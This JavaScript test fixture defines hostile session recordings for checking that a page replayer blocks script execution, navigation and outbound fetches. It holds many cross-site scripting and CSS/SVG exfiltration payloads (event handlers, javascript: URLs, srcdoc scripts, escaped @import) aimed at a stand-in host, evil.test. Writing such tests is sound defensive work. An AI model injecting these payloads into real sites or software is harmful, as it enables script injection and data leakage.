/**
 * Hostile recordings, in the shape intake's corpus has: `{ name, expect, events }`.
 *
 * Every one puts something beside `#still-here` that would fetch, navigate or run if it were built as recorded.
 * `http://evil.test` and the rest lead to the counting sink. `ran()` is what a script would do if it ran.
 */
const EVIL = "http://evil.test";
const RAN = "parent.__ran=1;top.__ran=1;self.__ran=1;fetch('http://ran.evil.test/')";

let nextId = 1;
const id = () => nextId++;
export const text = (textContent) => ({ type: 3, id: id(), textContent });
export const el = (tagName, attributes = {}, childNodes = [], more = {}) => ({
  type: 2,
  id: id(),
  tagName,
  attributes,
  childNodes,
  ...more,
});
const svg = (tagName, attributes = {}, childNodes = []) =>
  el(tagName, attributes, childNodes, { isSVG: true });
const style = (css) => el("style", {}, [{ ...text(css), isStyle: true }]);

/** A page with `#still-here`, and the nodes in its body or head. */
export function page({ head = [], body = [], html = {}, extra = [] } = {}) {
  const bodyNode = el("body", {}, [el("p", { id: "still-here" }, [text("The rest plays.")]), ...body]);
  const node = {
    type: 0,
    id: id(),
    childNodes: [
      { type: 1, id: id(), name: "html", publicId: "", systemId: "" },
      el("html", html, [el("head", {}, head), bodyNode]),
    ],
  };
  return {
    bodyId: bodyNode.id,
    events: [
      { type: 4, timestamp: 1000, data: { href: `${EVIL}/page`, width: 800, height: 600 } },
      { type: 2, timestamp: 1001, data: { node, initialOffset: { top: 0, left: 0 } } },
      ...extra,
    ],
  };
}

const later = (data, at = 1100) => ({ type: 3, timestamp: at, data });
const mutation = (more) => later({ source: 0, texts: [], attributes: [], removes: [], adds: [], ...more });
const still = (name, parts) => ({ name, expect: "plays", events: page(parts).events });

/** Adds nodes in a mutation instead of the snapshot. */
function added(name, nodes) {
  const { events, bodyId } = page();
  const adds = nodes.map((node) => ({ parentId: bodyId, nextId: null, node }));
  return { name, expect: "plays", events: [...events, mutation({ adds })] };
}

/** Builds a bare element, then gives it attributes in a mutation. */
function changed(name, tagName, attributes, more = {}) {
  const target = el(tagName, {}, [], more);
  const { events } = page({ body: [target] });
  return {
    name,
    expect: "plays",
    events: [...events, mutation({ attributes: [{ id: target.id, attributes }] })],
  };
}

function deep() {
  let node = el("div");
  for (let n = 0; n < 1500; n += 1) node = el("div", {}, [node]);
  return node;
}

function cyclic() {
  const { events, bodyId } = page();
  const a = el("div");
  const b = el("div");
  return {
    name: "nodes that contain each other",
    expect: "plays",
    events: [
      ...events,
      mutation({
        adds: [
          { parentId: b.id, nextId: null, node: a },
          { parentId: a.id, nextId: null, node: b },
          { parentId: a.id, nextId: null, node: { ...a } },
          { parentId: bodyId, nextId: a.id, node: el("p", { class: "after" }) },
        ],
      }),
      mutation({ adds: [{ parentId: bodyId, nextId: null, node: { ...el("div"), id: bodyId } }] }),
    ],
  };
}

function splitStyle() {
  const whole = el("style", {}, [
    { ...text("@imp"), isStyle: true },
    { ...text(`ort "${EVIL}/split.css";`), isStyle: true },
  ]);
  const engine = el("style", { _cssText: `@imp/* rr_split */ort "${EVIL}/rr.css";` }, [text(""), text("")]);
  const opened = el("style", {}, [{ ...text('p { --x: "'), isStyle: true }]);
  const { events } = page({ head: [whole, engine, opened] });
  const adds = [
    {
      parentId: opened.id,
      nextId: null,
      node: { ...text(`"; } p { background: url(${EVIL}/joined.png) }`), isStyle: true },
    },
  ];
  return { name: "css split over text nodes", expect: "plays", events: [...events, mutation({ adds })] };
}

const CSS = `
@import "${EVIL}/import.css"; @import url(${EVIL}/import2.css); @\\69mport "${EVIL}/import3.css";
@font-face { font-family: x; src: url(${EVIL}/x.woff2) }
p { font-family: x; background: url(${EVIL}/a.png); cursor: url("${EVIL}/b.cur"), auto }
#still-here { background-image: u\\72 l(${EVIL}/c.png), u/**/rl(${EVIL}/d.png); list-style: url( '${EVIL}/e.png' ) }
body { background: image-set("${EVIL}/f.png" 1x, url(${EVIL}/g.png) 2x); --u: "${EVIL}/h.png"; }
html { background: -webkit-image-set(var(--u) 1x); border-image: URL(${EVIL}/i.png) 2; mask: url(//evil.test/j.svg#m) }
p::before { content: url(/relative.png) } p::after { content: url(relative.png) }
p { filter: url(${EVIL}/k.svg#f); clip-path: url("${EVIL}/l.svg#c"); shape-outside: url(${EVIL}/m.png) }
@media screen { @import "${EVIL}/n.css"; p { background: url(${EVIL}/o.png) } }
@property --q { syntax: "<image>"; inherits: false; initial-value: url(${EVIL}/p.png) }
p { background-image: var(--q) ; offset-path: url(${EVIL}/q.svg#p) }
p { background-image: url(${EVIL}/r.png`;

export const hostile = [
  still("script", {
    head: [el("script", { src: `${EVIL}/s.js` }, [text(RAN)])],
    body: [el("ScRiPt", {}, [text(RAN)])],
  }),
  still("svg script", {
    body: [
      svg("svg", {}, [
        svg("script", { href: `${EVIL}/s.js` }, [text(RAN)]),
        svg("svg:script", {}, [text(RAN)]),
      ]),
    ],
  }),
  still("handlers", {
    html: { onload: RAN },
    body: [
      el("img", { src: "data:image/png,x", onerror: RAN, ONLOAD: RAN }),
      el("details", { open: true, ontoggle: RAN }),
      el("input", { autofocus: true, onfocus: RAN }),
      svg("svg", { onload: RAN }),
      el("style", { onload: RAN }, [text("p{}")]),
      el("video", { oncanplay: RAN, onerror: RAN }, [el("source", { src: "x", onerror: RAN })]),
    ],
  }),
  still("javascript addresses", {
    body: [
      el("iframe", { src: `javascript:${RAN}` }),
      el("a", { href: `javascript:${RAN}`, autofocus: true }, [text("press")]),
      el("form", { action: `javascript:${RAN}` }, [el("button", { formaction: `java\tscript:${RAN}` })]),
      el("object", { data: `javascript:${RAN}` }),
      el("embed", { src: `javascript:${RAN}` }),
    ],
  }),
  still("frames", {
    body: [
      el("iframe", { src: `${EVIL}/frame` }),
      el("iframe", { srcdoc: `<script>${RAN}</script><img src=${EVIL}/srcdoc.png>` }),
      el("iframe", { src: `data:text/html,<script>${RAN}</script>` }),
      el("frameset", {}, [el("frame", { src: `${EVIL}/frame2` })]),
      el("object", { data: `${EVIL}/object`, type: "text/html" }),
      el("embed", { src: `${EVIL}/embed`, type: "text/html" }),
      el("portal", { src: `${EVIL}/portal` }),
      el("fencedframe", { src: `${EVIL}/fenced` }),
    ],
  }),
  still("meta refresh, base and policies", {
    head: [
      el("meta", { "http-equiv": "refresh", content: `0;url=${EVIL}/refresh` }),
      el("META", { "HTTP-EQUIV": "Refresh", CONTENT: `0;url=${EVIL}/refresh2` }),
      el("base", { href: `${EVIL}/base/`, target: "_top" }),
      el("meta", { name: "referrer", content: "unsafe-url" }),
    ],
    body: [el("img", { src: "relative.png" })],
  }),
  still("links", {
    head: [
      ...[
        "stylesheet",
        "preload",
        "modulepreload",
        "prefetch",
        "prerender",
        "preconnect",
        "dns-prefetch",
        "icon",
        "manifest",
        "expect",
        "alternate stylesheet",
      ].map((rel) =>
        el("link", {
          rel,
          href: `${EVIL}/${encodeURIComponent(rel)}`,
          as: "image",
          imagesrcset: `${EVIL}/set 1x`,
        }),
      ),
      el("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }),
      el("script", { type: "speculationrules" }, [text(`{"prefetch":[{"urls":["${EVIL}/speculation"]}]}`)]),
    ],
    body: [el("a", { href: "http://dns.evil.test/", ping: `${EVIL}/ping` }, [text("a link")])],
  }),
  still("media", {
    body: [
      el("img", { src: `${EVIL}/1.png`, srcset: `${EVIL}/2.png 1x` }),
      el("img", { src: "//evil.test/3.png", loading: "eager", crossorigin: "anonymous" }),
      el("img", { rr_dataURL: `${EVIL}/4.png` }),
      el("canvas", { rr_dataURL: `${EVIL}/5.png` }),
      el("picture", {}, [
        el("source", { srcset: `${EVIL}/6.png` }),
        el("img", { src: "\\\\evil.test\\7.png" }),
      ]),
      el("video", { src: `${EVIL}/8.mp4`, poster: `${EVIL}/9.png`, autoplay: true, rr_mediaState: "played" }),
      el("audio", { src: `${EVIL}/10.mp3`, preload: "auto" }),
      el("video", {}, [el("track", { src: `${EVIL}/11.vtt`, default: true })]),
      el("input", { type: "image", src: `${EVIL}/12.png` }),
      el("table", { background: `${EVIL}/13.png` }),
      el("body", { background: `${EVIL}/14.png` }),
      el("img", { src: "blob:http://evil.test/uuid", lowsrc: `${EVIL}/15.png` }),
    ],
  }),
  still("svg", {
    body: [
      svg("svg", { width: "10", height: "10" }, [
        svg("image", { href: `${EVIL}/1.png` }),
        svg("image", { "xlink:href": `${EVIL}/2.png` }),
        svg("use", { href: `${EVIL}/3.svg#x` }),
        svg("use", {
          href: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x'><script>${RAN}</script></svg>#x`,
        }),
        svg("feImage", { href: `${EVIL}/4.png` }),
        svg("image", { id: "target" }, [
          svg("animate", { attributeName: "href", values: `${EVIL}/5.png`, begin: "0s", dur: "1s" }),
          svg("set", { attributeName: "xlink:href", to: `${EVIL}/6.png`, begin: "0s" }),
          svg("animate", { attributeName: " HREF ", to: `${EVIL}/7.png`, begin: "0s", dur: "1s" }),
        ]),
        svg("rect", {
          fill: `url(${EVIL}/8.svg#g)`,
          filter: `u\\72l(${EVIL}/9.svg#f)`,
          style: `mask:url(${EVIL}/10.svg#m)`,
          width: "9",
          height: "9",
        }),
        svg("foreignObject", {}, [el("iframe", { src: `${EVIL}/11` }), el("img", { src: `${EVIL}/12.png` })]),
        svg("a", { href: `javascript:${RAN}` }, [svg("text", {}, [text("x")])]),
        svg("style", {}, [text(`rect { fill: url(${EVIL}/13.svg#x) } @import "${EVIL}/14.css";`)]),
        svg("cursor", { "xlink:href": `${EVIL}/15.cur` }),
      ]),
    ],
  }),
  still("css", {
    head: [style(CSS)],
    body: [el("div", { style: `background:url(${EVIL}/inline.png);behavior:url(${EVIL}/x.htc)` })],
  }),
  still("css in engine attributes", {
    head: [
      el("link", { rel: "stylesheet", href: `${EVIL}/l.css`, _cssText: CSS }),
      el("style", { _cssText: CSS }),
    ],
  }),
  splitStyle(),
  (() => {
    const sheet = style("p { color: green }");
    const { events } = page({ head: [sheet] });
    return {
      name: "css by rules, declarations and adopted sheets",
      expect: "plays",
      events: [
        ...events,
        later({
          source: 8,
          id: sheet.id,
          adds: [{ rule: `p { background: url(${EVIL}/rule.png) }`, index: 0 }],
        }),
        later({
          source: 13,
          id: sheet.id,
          index: [0],
          set: { property: "background-image", value: `url(${EVIL}/declared.png)`, priority: "important" },
        }),
        later({
          source: 15,
          id: events[1].data.node.id,
          styleIds: [1],
          styles: [{ styleId: 1, rules: [{ rule: `body { background: url(${EVIL}/adopted.png) }` }] }],
        }),
        later({
          source: 8,
          styleId: 1,
          replaceSync: `body { background: url(${EVIL}/replaced.png) } @import "${EVIL}/replaced.css";`,
        }),
        mutation({
          texts: [
            {
              id: sheet.childNodes[0].id,
              value: `@import "${EVIL}/text.css"; p { background: url(${EVIL}/text.png) }`,
            },
          ],
        }),
        later({ source: 10, family: "x", fontSource: `url(${EVIL}/font.woff2)`, buffer: false }),
        later({ source: 10, family: "y", fontSource: "[1e15]", buffer: true }),
      ],
    };
  })(),
  added("added nodes", [
    el("iframe", { src: `${EVIL}/added` }),
    el("script", { src: `${EVIL}/added.js` }, []),
    el("link", { rel: "stylesheet", href: `${EVIL}/added.css` }),
    el("img", { src: `${EVIL}/added.png`, onerror: RAN }),
    el("meta", { "http-equiv": "refresh", content: `0;${EVIL}/added` }),
    { type: 0, id: 900_001, childNodes: [el("html", {}, [el("script", {}, [text(RAN)])])] },
  ]),
  changed("changed frame", "iframe", {
    src: `${EVIL}/changed`,
    srcdoc: `<script>${RAN}</script>`,
    SRC: `${EVIL}/CHANGED`,
  }),
  changed("changed image", "img", {
    src: `${EVIL}/changed.png`,
    srcset: `${EVIL}/set.png`,
    onerror: RAN,
    rr_dataURL: `${EVIL}/rr.png`,
  }),
  changed("changed link", "link", {
    rel: "stylesheet",
    href: `${EVIL}/changed.css`,
    _cssText: `p { background: url(${EVIL}/l.png) }`,
  }),
  changed("changed style", "p", {
    style: { "background-image": `url(${EVIL}/object.png)`, mask: [`url(${EVIL}/o2.svg#x)`, "important"] },
  }),
  changed("changed animation", "animate", { attributeName: "href", to: `${EVIL}/x.png` }, { isSVG: true }),
  still("names that shadow", {
    body: [
      el("form", { name: "getElementsByTagName" }, [
        el("input", { name: "appendChild" }),
        el("input", { id: "setAttribute" }),
        el("p", { class: "in-form" }),
      ]),
      el("img", { name: "head" }),
      el("iframe", { name: "documentElement" }),
      el("object", { id: "querySelectorAll" }),
    ],
  }),
  still("shadow roots where none may be", {
    body: [
      el("img", {}, [{ ...el("p"), isShadow: true }], { isShadowHost: true }),
      el("x-card", {}, [{ ...el("p"), isShadow: true }], { isShadowHost: true, isCustom: true }),
    ],
  }),
  still("deep", { body: [deep()] }),
  still("huge", {
    body: [
      el("div", { class: "x".repeat(2_000_000), rr_width: "99999999px", rr_height: "1e9px" }, [
        text("y".repeat(4_000_000)),
      ]),
    ],
  }),
  (() => {
    const { events } = page();
    const { node } = events[1].data;
    node.childNodes[1].childNodes.push(
      { ...el("div"), id: node.id },
      { ...el("div"), id: node.childNodes[1].id },
    );
    return { name: "repeated ids", expect: "plays", events };
  })(),
  cyclic(),
  {
    name: "malformed events",
    expect: "plays",
    events: [
      null,
      7,
      { type: 3 },
      { type: 4, timestamp: 999, data: { width: 1e12, height: -5 } },
      ...page().events,
      later({ source: 0 }),
      later({ source: 2, type: 77, id: 1 }),
      later({ source: 1, positions: [] }),
      later({ source: 3, id: "x" }),
      later({ source: 14, ranges: [{ start: 1, end: 2, startOffset: 1e9 }] }),
      { type: 99, timestamp: 1200, data: {} },
      { type: 6, timestamp: 1200, data: { plugin: "x", payload: {} } },
    ],
  },
  {
    name: "no html element, a broken doctype and CDATA",
    expect: "draws nothing harmful",
    events: [
      { type: 4, timestamp: 1000, data: { width: 800, height: 600 } },
      {
        type: 2,
        timestamp: 1001,
        data: {
          node: {
            type: 0,
            id: 1,
            compatMode: "BackCompat",
            childNodes: [
              { type: 1, id: 2, name: "<svg onload=x>", publicId: '"', systemId: '"' },
              { type: 3, id: 3, textContent: "x" },
              { type: 4, id: 4, textContent: "x" },
            ],
          },
          initialOffset: {},
        },
      },
    ],
  },
];
